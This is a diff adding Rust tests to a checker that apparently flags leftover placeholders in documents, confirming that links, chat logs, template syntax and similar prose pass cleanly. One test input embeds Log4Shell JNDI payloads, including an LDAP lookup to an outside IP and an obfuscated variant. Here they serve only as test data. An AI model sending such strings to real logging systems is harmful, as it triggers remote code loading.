@@ -499,3 +499,86 @@ fn a_public_style_postmortem_has_no_placeholder_findings() {
     );
     assert_eq!(run.code, 1);
 }
+
+// Found in archives: writing about stand-ins, not stand-ins
+
+#[test]
+fn a_lead_in_to_a_link_is_not_filler() {
+    assert_clean(
+        &strict_with(
+            "More details here: <https://status.example.com/incidents/9x4k2>, including the timeline.",
+        ),
+        1,
+    );
+}
+
+#[test]
+fn what_people_said_in_a_chat_log_is_not_left_over() {
+    assert_clean(
+        &strict_with(
+            "[10:06] omar: TBD, how many duplicates will the check catch?\n\
+             [10:07] dana: format is YYYY-MM-DD in the export\n\
+             14:09 lee: TODO after the call",
+        ),
+        1,
+    );
+}
+
+#[test]
+fn shell_server_and_attack_strings_are_not_template_variables() {
+    assert_clean(
+        &strict_with(
+            "The probe sent ${jndi:ldap://45.83.64.1:1389/a} and ${${lower:j}ndi:x}.\n\
+             The cache key was ${scheme}${host}${uri}; the alert text said CoreDNS in \
+             {{ $labels.cluster }} is down.",
+        ),
+        1,
+    );
+}
+
+#[test]
+fn a_paragraph_about_templates_formats_and_markers_names_them() {
+    assert_clean(
+        &strict_with(
+            "The welcome email was rendered without its template variables: it began with\n\
+             \"Hi {{ FIRST_NAME }},\" and pointed to {ACTIVATION_URL}.\n\n\
+             Dates were written in the locale format (DD/MM/YYYY) instead of YYYY-MM-DD.\n\n\
+             We triaged the 37 TODO comments. The designer's Lorem ipsum footer was still in \
+             the HTML part.",
+        ),
+        1,
+    );
+}
+
+#[test]
+fn notes_on_where_the_text_came_from_are_not_guidance() {
+    assert_clean(
+        &strict_with(
+            "<!-- Translated from the Confluence page 48213 on 2024-09-30 -->\n\n\
+             <!----- Conversion notes: gd2md-html, 3 warnings ----->",
+        ),
+        1,
+    );
+}
+
+#[test]
+fn a_jekyll_highlight_block_is_code() {
+    assert_clean(
+        &strict_with(
+            "{% highlight nginx %}\nproxy_cache_key ${scheme}${host}${uri} TODO [Your Name];\n\
+             {% endhighlight %}",
+        ),
+        1,
+    );
+}
+
+#[test]
+fn a_team_in_brackets_is_an_owner() {
+    assert_clean(
+        &strict_with(
+            "| Action | Owner |\n|---|---|\n| Replace the UPS batteries | [Facilities team] |\n\
+             | Label the racks | [DC Ops] |",
+        ),
+        1,
+    );
+}
